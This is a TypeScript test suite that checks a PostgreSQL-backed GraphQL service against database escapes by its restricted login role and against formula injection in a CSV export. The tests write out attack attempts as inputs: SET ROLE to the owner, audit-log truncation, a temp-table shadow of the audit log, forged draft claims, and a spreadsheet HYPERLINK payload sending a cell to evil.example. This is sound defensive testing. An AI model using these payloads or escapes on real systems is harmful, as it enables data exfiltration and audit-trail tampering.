import { exportProgressCsv } from '@wps/cli';
import { databaseConfigFrom, databaseEnv, HUB_SERVICE_ROLE, Role, serviceLoginConfig, signDevToken } from '@wps/kit';
import { databaseUrl, MEMBER_SERVICE_ROLE } from '@wps/launcher';
import { postGraphQL, startTestNetwork, testAdminUrl, type TestNetwork } from '@wps/tests';
import { parse as parseCsv } from 'csv-parse/sync';
import pg from 'pg';
import { FOCAL_POINT_CLAIM_SETTING, signFocalPointClaim } from '../../subgraphs/nap/src/member/draft-claim.js';

/** Draft rows of a member database, as the connected role may see them. */
const DRAFTS = `SELECT (SELECT count(*) FROM measurement WHERE status = 'DRAFT') + (SELECT count(*) FROM budget_line WHERE status = 'DRAFT') + (SELECT count(*) FROM progress_report WHERE status = 'DRAFT') AS count`;
const PLAN_DRAFTS = `query ($code: String!) { country(code: $code) { actionPlans { reports { id status } budgetLines { id status } } } }`;

/**
 * The database as the last line (issue 9 item 7), on a real network: the
 * member's NAP service logs in as `wps_member_app`, and whatever SQL that
 * role runs (a bug, an injection) cannot become the owner, see drafts,
 * rewrite the audit log or make its triggers write elsewhere. And outputs do
 * not leak (item 8): the progress CSV neutralises a member's hostile text.
 */
describe('escapes from the database, tried as the role the NAP service logs in as', () => {
  let hub: TestNetwork;
  let owner: pg.Client;
  let app: pg.Client;
  let ownerUrl: string;

  beforeAll(async () => {
    hub = await startTestNetwork({ label: 'dbescape', members: ['RW'] });
    const name = hub.network.databases.find((candidate) => candidate.endsWith('_nap_rw'))!;
    ownerUrl = databaseUrl(testAdminUrl(), name);
    owner = new pg.Client({ connectionString: ownerUrl });
    await owner.connect();
  });
  beforeEach(async () => {
    // The login the service itself uses (derived from its DATABASE_URL, as the service derives it).
    app = new pg.Client({ connectionString: serviceLoginConfig(databaseConfigFrom(databaseEnv.read({ DATABASE_URL: ownerUrl })), MEMBER_SERVICE_ROLE).url });
    await app.connect();
  });
  afterEach(async () => app?.end());
  afterAll(async () => {
    await owner?.end();
    await hub?.stop();
  });

  const drafts = async (client: pg.Client) => Number((await client.query<{ count: string }>(DRAFTS)).rows[0]!.count);
  const auditRows = async () => Number((await owner.query<{ count: string }>(`SELECT count(*) FROM audit_log`)).rows[0]!.count);

  it('logs in as a role that owns nothing, cannot bypass row-level security and cannot create in the schema', async () => {
    const { rows } = await app.query(
      `SELECT session_user AS login, r.rolsuper, r.rolbypassrls, r.rolcreaterole, r.rolcreatedb,
              has_schema_privilege('public', 'CREATE') AS may_create,
              (SELECT count(*)::int FROM pg_class WHERE relowner = r.oid) AS owned
         FROM pg_roles r WHERE r.rolname = session_user`,
    );
    expect(rows).toEqual([{ login: MEMBER_SERVICE_ROLE, rolsuper: false, rolbypassrls: false, rolcreaterole: false, rolcreatedb: false, may_create: false, owned: 0 }]);
    // The service's own connections are that login, not the owner with a default role.
    expect((await postGraphQL(hub.gatewayUrl, PLAN_DRAFTS, { code: 'RW' })).body.errors).toBeUndefined();
    const sessions = await owner.query(`SELECT DISTINCT usename FROM pg_stat_activity WHERE datname = current_database() AND application_name = 'nap-rw'`);
    expect(sessions.rows).toEqual([{ usename: MEMBER_SERVICE_ROLE }]);
    await expect(app.query(`CREATE TABLE public.planted (id int)`)).rejects.toThrow(/permission denied/);
    const rls = await owner.query(`SELECT relname FROM pg_class WHERE relnamespace = 'public'::regnamespace AND relkind = 'r' AND relname <> 'schema_migrations' AND relname <> 'member_draft_key' AND NOT (relrowsecurity AND relforcerowsecurity) ORDER BY relname`);
    expect(rls.rows).toEqual([]);
  });

  it('refuses SET ROLE to the owner; SET ROLE NONE and RESET ROLE leave it as it is, seeing no drafts', async () => {
    const tableOwner = (await owner.query<{ owner: string }>(`SELECT tableowner AS owner FROM pg_tables WHERE tablename = 'measurement'`)).rows[0]!.owner;
    expect(await drafts(owner)).toBeGreaterThan(0);
    await expect(app.query(`SET ROLE ${app.escapeIdentifier(tableOwner)}`)).rejects.toThrow(/permission denied to set role/);
    for (const statement of ['SET ROLE NONE', 'RESET ROLE', 'SET SESSION AUTHORIZATION DEFAULT']) {
      await app.query(statement);
      expect((await app.query(`SELECT current_user AS role`)).rows).toEqual([{ role: MEMBER_SERVICE_ROLE }]);
      expect(await drafts(app)).toBe(0);
    }
  });

  it('sees no drafts with the draft switch set by hand, the old one or a forged claim', async () => {
    await app.query(`SET wps.drafts = 'on'`);
    expect(await drafts(app)).toBe(0);
    const [{ pid }] = (await app.query<{ pid: number }>(`SELECT pg_backend_pid() AS pid`)).rows;
    const forged = { inner: Buffer.alloc(64, 7), outer: Buffer.alloc(64, 9) };
    await app.query(`SELECT set_config('${FOCAL_POINT_CLAIM_SETTING}', $1, false)`, [signFocalPointClaim(forged, pid!)]);
    expect(await drafts(app)).toBe(0);
    await app.query(`SELECT set_config('${FOCAL_POINT_CLAIM_SETTING}', $1, false)`, [`${pid}:9999999999:${'0'.repeat(64)}`]);
    expect(await drafts(app)).toBe(0);
    await expect(app.query(`SELECT * FROM member_draft_key`)).rejects.toThrow(/permission denied/);
    // Nor can it read drafts' contents through the audit log.
    expect(Number((await app.query<{ count: string }>(`SELECT count(*) FROM audit_log`)).rows[0]!.count)).toBe(0);
  });

  it('refuses TRUNCATE of the audit log and of a member table, and UPDATE or DELETE of the audit log', async () => {
    const before = await auditRows();
    expect(before).toBeGreaterThan(0);
    await expect(app.query(`TRUNCATE audit_log`)).rejects.toThrow(/permission denied/);
    await expect(app.query(`TRUNCATE measurement`)).rejects.toThrow(/permission denied/);
    await expect(app.query(`TRUNCATE national_action_plan CASCADE`)).rejects.toThrow(/permission denied/);
    await expect(app.query(`UPDATE audit_log SET actor = 'someone else'`)).rejects.toThrow(/permission denied/);
    await expect(app.query(`DELETE FROM audit_log`)).rejects.toThrow(/permission denied/);
    // Even the owner cannot truncate the audit log (TRUNCATE fires no row trigger: a statement trigger refuses it).
    await expect(owner.query(`TRUNCATE audit_log`)).rejects.toThrow(/append-only/);
    expect(await auditRows()).toBe(before);
    expect(Number((await owner.query<{ count: string }>(`SELECT count(*) FROM measurement`)).rows[0]!.count)).toBeGreaterThan(0);
  });

  it("cannot make the audit trigger write to a temporary table named audit_log, even in a focal point's own session", async () => {
    // The worst case: SQL injected into a focal point's request, whose session carries the service's claim.
    const [stored] = (await owner.query<{ inner_pad: Buffer; outer_pad: Buffer }>(`SELECT inner_pad, outer_pad FROM member_draft_key`)).rows;
    const key = { inner: stored!.inner_pad, outer: stored!.outer_pad };
    const [{ pid }] = (await app.query<{ pid: number }>(`SELECT pg_backend_pid() AS pid`)).rows;
    await app.query(`CREATE TEMP TABLE audit_log (LIKE public.audit_log INCLUDING DEFAULTS)`);
    await app.query('BEGIN');
    await app.query(`SELECT set_config('${FOCAL_POINT_CLAIM_SETTING}', $1, true), set_config('wps.actor', 'focal-point:RW', true), set_config('wps.action', 'shadow-test', true)`, [signFocalPointClaim(key, pid!)]);
    await app.query(`INSERT INTO national_action_plan (iteration, title, status) VALUES (77, 'Shadowed write', 'DRAFT')`);
    await app.query('COMMIT');
    expect(Number((await app.query<{ count: string }>(`SELECT count(*) FROM pg_temp.audit_log`)).rows[0]!.count)).toBe(0);
    const recorded = await owner.query(`SELECT actor, action, entity FROM audit_log WHERE action = 'shadow-test'`);
    expect(recorded.rows).toEqual([{ actor: 'focal-point:RW', action: 'shadow-test', entity: 'national_action_plan' }]);
  });

  it('still serves drafts to the member\'s own focal point, through the service, and none to anyone else', async () => {
    const focalPoint = await signDevToken(hub.keys.privateKeyFile, { subject: 'focal-point:RW', roles: [Role.FOCAL_POINT], country: 'RW' });
    const statuses = (body: { data?: Record<string, any> | null }) =>
      (body.data?.country?.actionPlans ?? []).flatMap((plan: { reports: { status: string }[]; budgetLines: { status: string }[] }) => [...plan.reports, ...plan.budgetLines].map((row) => row.status));
    const own = await postGraphQL(hub.gatewayUrl, PLAN_DRAFTS, { code: 'RW' }, { authorization: `Bearer ${focalPoint}` });
    expect(own.body.errors).toBeUndefined();
    expect(statuses(own.body)).toContain('DRAFT');
    const anonymous = await postGraphQL(hub.gatewayUrl, PLAN_DRAFTS, { code: 'RW' });
    expect(anonymous.body.errors).toBeUndefined();
    expect(statuses(anonymous.body).length).toBeGreaterThan(0);
    expect(statuses(anonymous.body)).not.toContain('DRAFT');
  });

  it('neutralises a member\'s hostile text in the progress CSV export, and keeps numbers numbers', async () => {
    // A member's indicator title is the member's to choose: make one a formula.
    const hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
    await owner.query(`UPDATE indicator SET title = $1 WHERE id IN (SELECT indicator_id FROM indicator_alignment WHERE framework_code = 'AU_CRF')`, [hostile]);
    const exported = await exportProgressCsv(hub.client, 'AU_CRF');
    const records = parseCsv(exported.csv, { columns: true }) as Record<string, string>[];
    const titles = records.map((record) => record.national_indicator_title);
    expect(titles).toContain(`'${hostile}`);
    for (const record of records) for (const value of Object.values(record)) expect(value).not.toMatch(/^[=+@\t\r]/);
    // Numbers are written as numbers (a number's cell is never quoted nor prefixed).
    const baselines = records.map((record) => record.baseline).filter((value) => value !== '');
    expect(baselines.length).toBeGreaterThan(0);
    for (const value of baselines) expect(Number.isFinite(Number(value))).toBe(true);
    expect(exported.csv).not.toMatch(/"'-?\d/);
  });

  it.each(['regional', 'knowledge'])('serves %s as a role that owns nothing and can neither change nor empty its audit log', async (service) => {
    const serviceDb = databaseUrl(testAdminUrl(), hub.network.databases.find((candidate) => candidate.endsWith(`_${service}`))!);
    const login = new pg.Client({ connectionString: serviceLoginConfig(databaseConfigFrom(databaseEnv.read({ DATABASE_URL: serviceDb })), HUB_SERVICE_ROLE).url });
    const serviceOwner = new pg.Client({ connectionString: serviceDb });
    await Promise.all([login.connect(), serviceOwner.connect()]);
    try {
      const { rows } = await login.query(
        `SELECT session_user AS login, r.rolsuper, r.rolbypassrls, has_schema_privilege('public', 'CREATE') AS may_create,
                (SELECT count(*)::int FROM pg_class WHERE relowner = r.oid) AS owned
           FROM pg_roles r WHERE r.rolname = session_user`,
      );
      expect(rows).toEqual([{ login: HUB_SERVICE_ROLE, rolsuper: false, rolbypassrls: false, may_create: false, owned: 0 }]);
      // The service's own connections are that login.
      expect((await postGraphQL(hub.gatewayUrl, '{ frameworks { code } goodPractices { id } }')).body.errors).toBeUndefined();
      const sessions = await serviceOwner.query(`SELECT DISTINCT usename FROM pg_stat_activity WHERE datname = current_database() AND application_name = $1`, [service]);
      expect(sessions.rows).toEqual([{ usename: HUB_SERVICE_ROLE }]);
      await expect(login.query(`UPDATE audit_log SET actor = 'rewritten'`)).rejects.toThrow(/permission denied/);
      await expect(login.query(`DELETE FROM audit_log`)).rejects.toThrow(/permission denied/);
      await expect(login.query(`TRUNCATE audit_log`)).rejects.toThrow(/permission denied/);
      await expect(login.query(`CREATE TABLE public.planted (id int)`)).rejects.toThrow(/permission denied/);
      // Even the owner cannot empty it.
      await expect(serviceOwner.query(`TRUNCATE audit_log`)).rejects.toThrow(/append-only/);
    } finally {
      await Promise.all([login.end(), serviceOwner.end()]);
    }
  });
});
